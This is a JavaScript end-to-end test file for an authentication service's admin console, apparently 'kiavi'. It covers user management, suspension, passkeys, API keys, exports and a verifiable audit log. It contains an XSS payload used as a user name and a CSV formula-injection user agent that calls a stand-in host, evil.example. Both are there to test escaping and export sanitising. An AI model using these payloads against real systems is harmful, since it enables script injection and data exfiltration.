// A tenant in the console: how it stands, its people and what can be done for them, its log.

import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { SoftAuthenticator } from '../lib/authenticator.mjs';
import { chromiumMissing, look, openBrowser } from '../lib/browser.mjs';
import { kiaviMissing, startKiavi } from '../lib/kiavi.mjs';
import { mmdb } from '../lib/mmdb.mjs';
import { Visitor, freshEmail } from '../lib/visitor.mjs';
import { words } from '../lib/words.mjs';
import { consoleOf } from './at-console.mjs';
import * as journey from './journey.mjs';

const { button, buttonOf, dialog, heading, notice } = journey;
const PHONE =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.0 Mobile/15E148 Safari/604.1';
const HOSTILE = '"><img src=x onerror=alert(1)>';

describe('a tenant in the console', { skip: kiaviMissing() || chromiumMissing() }, () => {
  let kiavi;
  let browser;
  let prove;
  let page;
  let owner;
  let ada;
  let email;
  let key;

  const at = (below = '') => `${kiavi.consoleUrl}/w/default/t/demo${below}`;
  const row = (text) => page.getByRole('row').filter({ hasText: text });
  /** What a link gives as a file, after the proof that it may ask for: its name and what is in it. */
  const downloadOf = async (link) => {
    const coming = page.waitForEvent('download');
    await link.click();
    const asked = heading(page, 'prove-title').waitFor();
    if (await Promise.race([coming.then(() => false), asked.then(() => true)])) {
      await prove(owner);
      await link.click();
    }
    const file = await coming;
    return [file.suggestedFilename(), readFileSync(await file.path(), 'utf8')];
  };

  before(async () => {
    const folder = mkdtempSync(join(tmpdir(), 'kiavi-places-'));
    const places = join(folder, 'places.mmdb');
    writeFileSync(places, mmdb('Test', { '127.0.0.0/8': { country_code: 'FR', asn: 'AS3215', as_name: 'Orange' } }));
    [kiavi, browser] = await Promise.all([startKiavi({ args: ['--geo-country', places] }), openBrowser()]);
    rmSync(folder, { recursive: true });
    const theConsole = consoleOf(kiavi, browser);
    ({ prove } = theConsole);
    owner = await theConsole.firstOwner();
    ({ page } = owner);
    const { url, mailbox } = kiavi.tenant();
    ada = new Visitor(url, mailbox);
    ada.userAgent = PHONE;
    email = freshEmail();
  });
  after(async () => {
    await browser?.close();
    await kiavi?.dispose();
  });

  test('a new tenant says how to begin', async () => {
    await page.getByRole('link', { name: 'demo', exact: true }).click();
    await page.getByRole('heading', { level: 1, name: 'demo' }).waitFor();
    assert.equal(await page.locator('.figure').first().textContent(), '0', 'nobody today');
    await page.getByText('createAuthClient').first().waitFor();
    await look(page, '60-tenant-new');
    await page.goto(at('/users'));
    await page.getByText(words('users-empty-title')).waitFor();
    await look(page, '61-users-empty');
  });

  test('any page, tenant or person is a few keys away', async () => {
    await page.goto(at('/users'));
    const opener = button(page, 'palette-open');
    await opener.focus();
    await page.keyboard.press('Control+k');
    const field = page.getByRole('combobox', { name: words('palette-label') });
    await page.waitForFunction(() => document.activeElement?.getAttribute('role') === 'combobox');
    const menu = await page.locator('.side a').allTextContents();
    const own = page.getByRole('group', { name: 'demo', exact: true }).getByRole('option');
    assert.deepEqual(await own.allTextContents(), menu, 'the pages are those of the menu');
    await look(page, '77-palette');
    await page.keyboard.press('Escape');
    await page.waitForFunction(() => !document.querySelector('dialog[open]'));
    assert.ok(await opener.evaluate((one) => one === document.activeElement), 'the focus is where it was');
    await opener.click();
    await page.keyboard.type('dem');
    const tenants = page.getByRole('group', { name: words('console-title'), exact: true });
    await tenants.getByRole('option', { name: 'demo', exact: true }).waitFor();
    await field.fill('nobody@example.com');
    await page.getByRole('option', { name: words('palette-people', { text: 'nobody@example.com' }) }).waitFor();
    await page.keyboard.press('Enter');
    await page.getByText(words('users-none-title')).waitFor();
    assert.equal(new URL(page.url()).searchParams.get('text'), 'nobody@example.com');
    await page.keyboard.press('Control+k');
    await page.keyboard.type(`demo ${words('events-title').toLowerCase()}`);
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowUp');
    await page.keyboard.press('Enter');
    await page.waitForURL(at('/events'));
    assert.deepEqual(owner.complaints, []);
  });

  test('whoever signs in is there, and is found', async () => {
    await ada.signInByCode(email);
    await ada.post('/update-user', { name: 'Ada Lovelace' });
    const other = new Visitor(ada.url, ada.mailbox);
    await other.signInByCode(freshEmail('grace'));
    await other.post('/update-user', { name: HOSTILE });
    await page.goto(at('/users'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).waitFor();
    await page.getByRole('link', { name: HOSTILE }).waitFor();
    await look(page, '62-users');
    await page.getByLabel(words('users-search'), { exact: true }).fill('ada.');
    await button(page, 'action-search').click();
    await page.getByText(words('page-range', { first: '1', last: '1', total: '1' })).waitFor();
    assert.equal(await page.getByRole('link', { name: HOSTILE }).count(), 0);
    await page.goto(at('/users?text=100%25&standing=suspended'));
    await page.getByText(words('users-none-title')).waitFor();
    await look(page, '63-users-none');
  });

  test('where somebody is, and with what, stands beside them and finds what they did', async () => {
    await page.goto(at('/users'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    await page.getByText('Orange, France').waitFor();
    await page.goto(at('/events'));
    await page.getByText(words('users-more-filters')).click();
    for (const [field, text] of [
      ['events-country', 'FR'],
      ['events-network', 'AS3215'],
      ['event-device', 'iphone'],
    ]) {
      await page.getByLabel(words(field), { exact: true }).fill(text);
    }
    await button(page, 'action-search').click();
    await page.waitForURL(/country=FR&network=AS3215&device=iphone/);
    await row('session.created').waitFor();
    assert.equal(await row('session.created').count(), 1, 'the other one has no iPhone');
    await look(page, '61-events-places');
    await page.getByRole('link', { name: 'session.created' }).click();
    await page.getByText('AS3215 Orange', { exact: true }).waitFor();
    await page.getByText('France (FR)', { exact: true }).waitFor();
    await page.getByText(words('device-on', { browser: 'Safari', system: 'iOS' })).waitFor();
    await look(page, '62-event-places');
    await page.goto(at('/events?country=NL'));
    await page.getByText(words('events-none-title')).waitFor();
    await page.goto(at('/events?device=typewriter'));
    await page.getByRole('alert').waitFor();
  });

  test('somebody is suspended, which ends what they have open, and restored', async () => {
    await page.goto(at('/users'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    await page.getByRole('heading', { level: 1, name: 'Ada Lovelace' }).waitFor();
    await page.getByText(email).first().waitFor();
    await look(page, '64-user');
    await button(page, 'team-role-change').click();
    await dialog(page).getByLabel(words('team-role'), { exact: true }).fill('user, editor');
    await look(page, '64-user-role');
    await button(dialog(page), 'team-role-change').click();
    await notice(page, 'user-role-changed').waitFor();
    await page.getByText('user,editor', { exact: true }).waitFor();
    await button(page, 'user-suspend').click();
    await dialog(page).getByRole('combobox').selectOption('7');
    await dialog(page).getByLabel(words('user-suspend-reason')).fill('spam');
    await look(page, '65-suspend');
    await button(dialog(page), 'user-suspend').click();
    await notice(page, 'user-banned').waitFor();
    await look(page, '66-user-suspended');
    assert.equal((await ada.get('/get-session')).json, null, 'the session has ended');
    await page.goto(at('/users?standing=suspended'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    await button(page, 'user-restore').click();
    await notice(page, 'user-unbanned').waitFor();
    await ada.signInByCode(email);
    await page.reload();
    await buttonOf(page, 'session-revoke-of', 'device').first().click();
    await notice(page, 'user-session-ended').waitFor();
    assert.equal((await ada.get('/get-session')).json, null);
  });

  test('several are done with at once, and who could not be is said', async () => {
    await page.goto(at('/users?standing=active'));
    await page.locator('details.more > summary').click();
    await page.getByLabel(words('users-method'), { exact: true }).waitFor();
    await look(page, '70-users-filters');
    await page.getByRole('checkbox', { name: words('users-select-all') }).check();
    assert.equal(await page.locator('input[name="id"]:checked').count(), 2);
    await look(page, '71-users-selected');
    await button(page, 'user-sign-out').click();
    await page.getByRole('heading', { level: 1, name: 'Sign out 2 people everywhere' }).waitFor();
    await look(page, '72-selection');
    await page.getByRole('button', { name: 'Sign out 2 people everywhere' }).click();
    await page.getByText('Done for 1 person.', { exact: true }).waitFor();
    // Ada had ended her last session; the other had one.
    await page.getByText(words('selection-why-no-sessions')).waitFor();
    await look(page, '73-selection-done');
    await page.getByRole('link', { name: words('selection-back') }).click();
    await page.waitForURL((url) => url.searchParams.get('standing') === 'active');
  });

  test('a table of users wants a proof, and has no formula in it', async () => {
    await page.goto(at('/users'));
    await page.getByRole('link', { name: words('users-export-found') }).click();
    const download = page.getByRole('link', { name: words('selection-download') });
    await Promise.race([download.waitFor(), heading(page, 'prove-title').waitFor()]);
    if (await heading(page, 'prove-title').count()) await prove(owner);
    await look(page, '74-export');
    const coming = page.waitForEvent('download');
    await download.click();
    const file = await coming;
    assert.equal(file.suggestedFilename(), 'demo-users.csv');
    const folder = mkdtempSync(join(tmpdir(), 'kiavi-users-'));
    await file.saveAs(join(folder, 'users.csv'));
    const lines = readFileSync(join(folder, 'users.csv'), 'utf8').trimEnd().split('\r\n');
    rmSync(folder, { recursive: true });
    assert.equal(lines.length, 3);
    assert.ok(lines.some((line) => line.includes(email)));
  });

  test('a passkey that somebody lost is removed, and opens nothing any more', async () => {
    const authenticator = new SoftAuthenticator();
    await ada.signInByCode(email);
    await ada.addPasskey(authenticator, { name: 'Lost phone' });
    await page.goto(at('/users'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    await button(page, 'passkey-remove-of', { name: 'Lost phone' }).click();
    await look(page, '66-passkey-remove');
    await button(dialog(page), 'passkey-remove').click();
    await notice(page, 'user-passkey-removed').waitFor();
    await page.getByText(words('user-passkeys-empty')).waitFor();
    await assert.rejects(ada.another().signInByPasskey(authenticator), /signing in by passkey/);
  });

  test('a key of theirs is switched off, which ends what it opens, and on again', async () => {
    await kiavi.verb(['settings', 'set', 'demo', 'api_key.sessions=true']);
    ({ key } = (await ada.post('/api-key/create', { name: 'Deploy' })).json);
    const shown = () => ada.another().get('/get-session', { headers: { 'x-api-key': key } });
    assert.equal((await shown()).json.user.email, email);
    await page.goto(at('/users'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    await button(page, 'user-key-off-of', { name: 'Deploy' }).click();
    await notice(page, 'user-key-off').waitFor();
    await page.getByText(words('user-key-is-off'), { exact: true }).waitFor();
    await look(page, '66-user-key-off');
    const refused = await shown();
    assert.deepEqual([refused.status, refused.json.code], [401, 'KEY_DISABLED']);
    await button(page, 'user-key-on-of', { name: 'Deploy' }).click();
    await notice(page, 'user-key-on').waitFor();
    assert.equal((await shown()).json.user.email, email);
    await kiavi.verb(['settings', 'rollback', 'demo']);
  });

  test('a copy of what is kept of somebody wants a proof, is about them, and has no secret in it', async () => {
    await page.goto(at('/users'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    const [name, text] = await downloadOf(page.getByRole('link', { name: words('user-copy-get'), exact: true }));
    assert.equal(name, 'demo-user.json');
    const copy = JSON.parse(text);
    assert.deepEqual([copy.user.email, copy.user.name], [email, 'Ada Lovelace']);
    assert.ok(text.includes('"Deploy"') && !text.includes(key), 'the key is told of, and not told');
    assert.ok(!text.includes('grace.'), 'nobody else is in it');
    await page.goto(at('/events?type=user.exported'));
    await row('user.exported').waitFor();
  });

  test('the overview changes by itself', async () => {
    await page.goto(at());
    await page.locator('[data-live-state="on"]').filter({ visible: true }).waitFor();
    const users = page.locator('.figures > div').filter({ has: page.getByText(words('figures-users'), { exact: true }) });
    const before = Number(await users.locator('.figure').textContent());
    await new Visitor(ada.url, ada.mailbox).signInByCode(freshEmail('mary'));
    await users.getByText(String(before + 1), { exact: true }).waitFor();
    await page.locator('[data-live-state="on"]').filter({ visible: true }).waitFor();
    await look(page, '75-overview');
  });

  test('the figures are of any range, and change by themselves', async () => {
    await page.goto(at('/figures?range=7'));
    await heading(page, 'figures-title').waitFor();
    await page.locator('[data-live-state="on"]').filter({ visible: true }).waitFor();
    const signIns = () => page.locator('.counts dd').first().textContent();
    const before = Number(await signIns());
    const chart = page.getByRole('slider', { name: words('figures-chart') });
    await chart.focus();
    const today = await chart.getAttribute('aria-valuetext');
    await page.keyboard.press('ArrowLeft');
    assert.notEqual(await chart.getAttribute('aria-valuetext'), today, 'the day before');
    await page.keyboard.press('Home');
    const first = await chart.getAttribute('aria-valuetext');
    assert.match(first, /^\d{4}-\d\d-\d\d: 0$/);
    await page.getByText(first, { exact: true }).waitFor();
    await look(page, '75-figures-cursor');
    const stack = page.getByRole('slider', { name: words('figures-stack') });
    await stack.focus();
    const [last, ofToday] = (await stack.getAttribute('aria-valuetext')).split(': ');
    const row = page.locator('#numbers-stack tbody tr').first();
    const [day, ...counts] = await row.locator('th, td').allTextContents();
    const [, ...methods] = await page.locator('#numbers-stack thead th').allTextContents();
    assert.deepEqual([last, ofToday], [day, methods.map((method, at) => `${method} ${counts[at]}`).join(', ')]);
    assert.ok(methods.includes(words('figures-by-code')) && Number(counts[0]) > 0, ofToday);
    await page.keyboard.press('Home');
    const [sixDaysAgo, nobody] = (await stack.getAttribute('aria-valuetext')).split(': ');
    assert.ok(sixDaysAgo < day && /^\D+ 0(, \D+ 0)+$/.test(nobody), nobody);
    await page.getByText(nobody).waitFor();
    await chart.focus();
    await ada.signInByCode(email);
    await page.waitForFunction((count) => Number(document.querySelector('.counts dd').textContent) > count, before);
    await page.locator('#plot:focus').waitFor();
    assert.equal(await chart.getAttribute('aria-valuetext'), first, 'whoever reads on stays where they were');
    await page.getByLabel(words('figures-by'), { exact: true }).selectOption('week');
    await button(page, 'figures-show').click();
    await page.getByRole('heading', { level: 2, name: words('figures-chart-week') }).waitFor();
    await look(page, '75-figures-weeks');
    const coming = page.waitForEvent('download');
    await page.getByRole('link', { name: words('figures-csv') }).click();
    assert.equal((await coming).suggestedFilename(), 'demo-figures.csv');
    await page.goto(at('/figures?range=own&from=2020-01-01'));
    await page.getByRole('alert').waitFor();
    await look(page, '76-figures-fault');
  });

  test('the log tells it, shows what happens while one looks, and finds it again', async () => {
    await page.goto(at('/events'));
    await heading(page, 'events-title').waitFor();
    await row('user.banned').waitFor();
    await page.locator('[data-live-state="on"]').filter({ visible: true }).waitFor();
    const before = await row('session.created').count();
    await ada.signInByCode(email);
    await page.waitForFunction(
      (count) => [...document.querySelectorAll('.log tbody tr')].filter((row) => row.textContent.includes('session.created')).length > count,
      before,
    );
    await look(page, '67-events');
    assert.equal(await row('management.requested').count(), 0, 'that the log was read is not told unless asked for');
    await page.goto(at('/events?type=management.*'));
    await row('management.requested').first().waitFor();
    await page.goto(at(`/events?email=${encodeURIComponent(email)}&type=user.*&period=day`));
    await row('user.banned').waitFor();
    assert.equal(await row('session.created').count(), 0);
    await page.goto(at('/events?type=nonsense'));
    await page.getByRole('alert').waitFor();
    await look(page, '68-events-fault');
    const wrong = page.getByLabel(words('events-what'), { exact: true });
    assert.equal(await wrong.getAttribute('aria-invalid'), 'true');
    await page.locator(`#${await wrong.getAttribute('aria-describedby')}`).getByText(words('events-wrong-type')).waitFor();
    await page.goto(at('/events?type=session.revoked&ip=203.0.113.9'));
    await page.getByText(words('events-none-title')).waitFor();
  });

  test('the log is searched by who did it, by the request, and between days', async () => {
    await page.goto(at('/events'));
    const field = (name) => page.getByLabel(words(name), { exact: true });
    assert.equal(await field('figures-from').isVisible(), false, 'days are asked for where they count');
    await page.getByText(words('users-more-filters')).click();
    await field('events-actor').fill(owner.email);
    await field('events-period').selectOption('own');
    const today = new Date().toISOString().slice(0, 10);
    await field('figures-from').fill(today);
    await field('figures-to').fill(today);
    await button(page, 'action-search').click();
    await row('user.banned').waitFor();
    assert.equal(await row('session.created').count(), 0, 'nobody signed in but Ada and the other one');
    await page.getByText(words('events-days', { zone: 'UTC' })).waitFor();
    await page.locator('[data-live-state="on"]').filter({ visible: true }).waitFor();
    await look(page, '68-events-own');
    await page.getByRole('link', { name: 'user.banned' }).click();
    const request = await page.locator('.terms div').filter({ hasText: words('event-request') }).locator('dd').first().textContent();
    await page.goto(at(`/events?request_id=${request}&from=2020-01-01&to=${today}`));
    await row('user.banned').waitFor();
    await page.goto(at(`/events?from=${today}&to=2020-01-01`));
    assert.equal(await field('figures-to').getAttribute('aria-invalid'), 'true');
    await page.getByText(words('events-wrong-to')).waitFor();
    await look(page, '68-events-wrong-days');
  });

  test('what was searched for is a file, with a proof of each event and without a formula', async () => {
    ada.userAgent = '=HYPERLINK("https://evil.example?"&A1)';
    await ada.signInByCode(email);
    ada.userAgent = PHONE;
    await page.goto(at(`/events?type=session.created&email=${encodeURIComponent(email)}&period=day`));
    await page.locator('#export > summary').click();
    await look(page, '68-events-export');
    const folder = mkdtempSync(join(tmpdir(), 'kiavi-events-'));
    const take = async (word) => {
      const [name, text] = await downloadOf(page.getByRole('link', { name: words(word), exact: true }));
      writeFileSync(join(folder, name), text);
      return [name, text];
    };
    const [name, table] = await take('users-export');
    assert.match(name, /^demo-events-\d{4}-\d\d-\d\d-\d{4}-\d\d-\d\d\.csv$/);
    const [head, ...rows] = table.trimEnd().split('\r\n');
    assert.ok(head.startsWith('"index","id","type"'), head);
    assert.ok(rows.length > 0 && rows.every((row) => row.split(',')[2] === '"session.created"'), table);
    assert.ok(rows[0].includes(`,"'=HYPERLINK(""https://evil.example?""&A1)",`), rows[0]);
    assert.ok(!/(^|,)"[=+\-@]/m.test(table), table);
    const command = await page.locator('#export code').first().textContent();
    const [lines, ...keys] = command.split(' ').slice(4);
    for (;;) {
      const [name, file] = await take('events-export-ndjson');
      assert.equal(name, lines);
      const [head, ...events] = file.trimEnd().split('\n').map((line) => JSON.parse(line));
      assert.deepEqual([head.format, events.length], ['kiavi-audit-lines/1', rows.length]);
      assert.ok(events.every((event) => event.type === 'session.created' && 'index' in event), file);
      // What happened just now is sealed and cosigned within seconds.
      if (events.every((event) => event.proof)) break;
    }
    const verify = ['audit', 'proof', 'verify', join(folder, lines), ...keys];
    assert.match(await kiavi.verb(verify, { isOffline: true }), /^VERIFIED: each of the \d+ events is in /);
    writeFileSync(join(folder, lines), readFileSync(join(folder, lines), 'utf8').replace('"success"', '"failure"'));
    await assert.rejects(kiavi.verb(verify, { isOffline: true }), /NOT VERIFIED: line 2: /);
    rmSync(folder, { recursive: true });
    await page.goto(at('/events?type=log.exported'));
    await row('log.exported').first().waitFor();
  });

  test('a search is saved under a name, opened, renamed and deleted', async () => {
    await page.goto(at('/events?type=user.*&period=all&email=ada%40example.com'));
    await button(page, 'views-save').click();
    await page.getByText(words('views-left-out')).waitFor();
    await dialog(page).getByLabel(words('views-name'), { exact: true }).fill('What became of people');
    await dialog(page).getByRole('button', { name: words('action-save'), exact: true }).click();
    await notice(page, 'view-saved').waitFor();
    assert.equal(new URL(page.url()).searchParams.get('email'), null, 'a view is about nobody');
    const view = (name) => page.getByRole('link', { name, exact: true });
    assert.equal(await view('What became of people').getAttribute('aria-current'), 'page');
    await page.goto(at('/events'));
    await view('What became of people').click();
    await row('user.banned').first().waitFor();
    assert.equal(await row('session.created').count(), 0);
    await page.getByText(words('views-manage')).click();
    await look(page, '78-views');
    await page.getByLabel(words('views-name-of', { name: 'What became of people' })).fill('People');
    await button(page, 'views-rename-one', { name: 'What became of people' }).click();
    await notice(page, 'view-renamed').waitFor();
    await page.getByText(words('views-manage')).click();
    await button(page, 'views-delete-one', { name: 'People' }).click();
    await notice(page, 'view-deleted').waitFor();
    assert.equal(await view('People').count(), 0);
  });

  test('an event has its proof, which is verified here', async () => {
    await page.goto(at('/events?type=user.banned'));
    await page.getByRole('link', { name: 'user.banned' }).click();
    await page.getByRole('heading', { level: 1, name: 'user.banned' }).waitFor();
    await page.getByText('spam').first().waitFor();
    for (;;) {
      if (await page.getByText(words('event-sealed')).count()) break;
      const waits = ['event-waiting', 'event-uncosigned'].map((key) => page.getByText(words(key), { exact: true }));
      assert.ok(await waits[0].or(waits[1]).count(), 'it waits for its seal');
      await page.reload();
    }
    await look(page, '69-event');
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: kiavi.consoleUrl });
    const copied = async (word) => {
      await button(page, word).focus();
      await page.keyboard.press('Enter');
      await page.getByRole('status').filter({ hasText: words('action-copied') }).waitFor();
      await button(page, word).waitFor();
      return page.evaluate(() => navigator.clipboard.readText());
    };
    assert.equal(await copied('event-copy-link'), page.url());
    const id = page.url().split('/').at(-1);
    const curl = `curl -H "Authorization: Bearer $KEY" '${kiavi.consoleUrl}/v1/tenants/demo/audit/events?id=${id}'`;
    assert.equal(await copied('event-copy-curl'), curl);
    const download = page.waitForEvent('download');
    await page.getByRole('link', { name: words('event-download') }).click();
    const file = await download;
    const folder = mkdtempSync(join(tmpdir(), 'kiavi-proof-'));
    await file.saveAs(join(folder, file.suggestedFilename()));
    const command = await page.locator('section').filter({ has: page.locator('#proof') }).locator('code').textContent();
    const [name, ...rest] = command.split(' ').slice(4);
    assert.equal(name, file.suggestedFilename());
    await kiavi.verb(['audit', 'proof', 'verify', join(folder, name), ...rest], { isOffline: true });
    rmSync(folder, { recursive: true });
  });

  test('deleting somebody asks for the passkey, and the log forgets who it was', async () => {
    await page.goto(at('/users'));
    await page.getByRole('link', { name: 'Ada Lovelace' }).click();
    await button(page, 'user-delete').click();
    await look(page, '70-user-delete');
    const remove = () => button(dialog(page), 'user-delete').click();
    await remove();
    await Promise.race([notice(page, 'user-removed').waitFor(), heading(page, 'prove-title').waitFor()]);
    if (await heading(page, 'prove-title').count()) {
      await prove(owner);
      await button(page, 'user-delete').click();
      await remove();
      await notice(page, 'user-removed').waitFor();
    }
    assert.equal(await page.getByText(email).count(), 0);
    await page.goto(at('/events?type=user.banned'));
    await page.getByRole('link', { name: 'user.banned' }).click();
    await page.getByText(words('event-erased')).waitFor();
    assert.equal(await page.getByText(email).count(), 0);
    await look(page, '71-event-erased');
  });

  test('settings are checked, saved, and taken back', async () => {
    await page.goto(at('/settings'));
    const editor = page.getByLabel('JSON');
    const document = JSON.parse(await editor.inputValue());
    const type = (value) => editor.fill(JSON.stringify(value, null, 2));
    await look(page, '73-settings');
    await editor.fill('{ "session": ');
    await button(page, 'action-save').click();
    await page.getByRole('alert').waitFor();
    await look(page, '74-settings-fault');
    assert.equal(await editor.inputValue(), '{ "session": ', 'what was typed is still there');
    await type({ ...document, session: { ...document.session, expires_in_seconds: -1 } });
    await button(page, 'action-save').click();
    await page.getByRole('alert').filter({ hasText: 'expires_in_seconds' }).waitFor();
    await type({ ...document, session: { ...document.session, expires_in_seconds: 86_400 } });
    await button(page, 'settings-check').click();
    await page.getByText(words('settings-would-change')).waitFor();
    await look(page, '75-settings-checked');
    await page.getByLabel(words('settings-comment')).fill('shorter sessions');
    await button(page, 'action-save').click();
    await notice(page, 'settings-saved').waitFor();
    assert.equal(JSON.parse(await kiavi.verb(['settings', 'get', 'demo', 'session.expires_in_seconds'])), 86_400);
    await page.getByText('shorter sessions').waitFor();
    await button(page, 'settings-back-to', { version: '1' }).click();
    await look(page, '76-settings-back');
    await button(dialog(page), 'settings-back').click();
    await notice(page, 'settings-saved').waitFor();
    assert.deepEqual(JSON.parse(await editor.inputValue()), document);
    await look(page, '77-settings-versions');
  });

  test('what is not running says so, and what is not there is not found', async () => {
    await kiavi.verb(['tenant', 'suspend', 'demo', '--reason', 'unpaid']);
    await page.goto(at('/users'));
    await page.getByText(words('tenant-away-title')).waitFor();
    await look(page, '72-tenant-away');
    await page.goto(at('/events?type=tenant.*'));
    await page.getByRole('link', { name: 'tenant.suspended' }).click();
    await page.getByText('unpaid', { exact: true }).waitFor();
    await page.goto(at());
    await page.getByText(words('state-suspended')).first().waitFor();
    const missing = await page.goto(`${kiavi.consoleUrl}/w/default/t/nobody`);
    assert.equal(missing.status(), 404);
  });
});
